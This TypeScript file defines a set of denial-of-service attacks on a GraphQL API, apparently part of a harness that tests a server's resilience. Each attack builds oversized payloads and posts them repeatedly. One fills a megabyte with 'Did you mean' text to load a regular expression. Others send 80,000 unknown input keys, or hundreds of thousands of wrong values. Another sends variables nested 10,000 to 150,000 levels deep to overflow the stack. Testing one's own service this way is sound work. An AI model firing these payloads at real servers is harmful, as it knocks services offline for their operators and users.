import type { Attack } from './attack.ts';
import { again, outcomeOf, post, postAgain } from './http.ts';

const signIn = 'mutation ($input: SignInInput!) { signIn(input: $input) { accessToken } }';
const hello = 'query ($version: ApiVersion!) { hello(version: $version) { message } }';
const nodes = 'query ($ids: [ID!]!) { nodes(ids: $ids) { id } }';
const createQuest = 'mutation ($input: CreateQuestInput!) { createQuest(input: $input) { quest { id } } }';

/** Close to the largest body that is accepted. */
const megabyte = 1_000_000;

const request = (query: string, variables: string) =>
  `{"query":${JSON.stringify(query)},"variables":${variables}}`;

/** Attacks a regular expression that is applied to the client's text. */
export const didYouMean: Attack = {
  summary: 'a megabyte of "Did you mean" in a variable and in a document',
  run(target) {
    const text = ' Did you mean '.repeat(megabyte / 14);
    const bodies = [
      request(hello, `{"version":"${text}"}`),
      JSON.stringify({ query: `{ hello(version: "${text}") { message } }` }),
      request(hello, `{"version":"${' Did you mean "?'.repeat(megabyte / 20).replaceAll('"', '')}"}`),
    ];
    return postAgain(target, 2, (turn) => bodies[turn % bodies.length] ?? '');
  },
};

/** Each error repeats the whole input. */
export const unknownKeys: Attack = {
  summary: '80,000 unknown keys in an input',
  run(target) {
    const keys = Array.from({ length: 80_000 }, (_, index) => `"k${index}":1`);
    const body = request(signIn, `{"input":{"login":"ada","password":"plum violin",${keys.join(',')}}}`);
    return again(target, 2, async () => {
      const answer = await post(target, body);
      target.tally.add(`answer of ${sizeOf(answer.bytes)}`);
      return outcomeOf(answer);
    });
  },
};

function sizeOf(bytes: number): string {
  return bytes < megabyte ? 'less than 1 MB' : `${Math.round(bytes / megabyte)} MB`;
}

/** More ways to produce many errors, or long ones. */
export const wrongVariables: Attack = {
  summary: 'a megabyte of values of which each is wrong',
  run(target) {
    const items = (count: number, item: string) => `[${Array.from({ length: count }, () => item).join(',')}]`;
    const bodies = [
      request(nodes, `{"ids":${items(160_000, 'true')}}`),
      request(nodes, `{"ids":${items(160_000, 'null')}}`),
      request(hello, `{"version":"${'x'.repeat(megabyte)}"}`),
      request(
        'mutation ($events: [EventInput!]!) { recordEvents(input: { events: $events }) { results { outcome } } }',
        `{"events":${items(300_000, '{}')}}`,
      ),
    ];
    return postAgain(target, 4, (turn) => bodies[turn % bodies.length] ?? '');
  },
};

/** Recursion over these variables overflows the stack. */
export const deepVariables: Attack = {
  summary: 'variables of 10,000 to 500,000 levels',
  run(target) {
    const lists = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);
    const objects = (levels: number) => `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
    const quest = (match: string) => `{"input":{"name":"a","eventType":"a.b","eventMatch":${match}}}`;
    const bodies = [10_000, 150_000].flatMap((levels) => [
      request(nodes, `{"ids":${objects(levels)}}`),
      request(createQuest, quest(objects(levels))),
      request(createQuest, quest(`{"a":${lists(levels * 3)}}`)),
      request(nodes, `{"ids":${lists(levels * 3)}}`),
      // The server does not use these extensions.
      `{"query":"{ __typename }","extensions":${objects(levels)}}`,
    ]);
    return postAgain(target, 4, (turn) => bodies[turn % bodies.length] ?? '');
  },
};
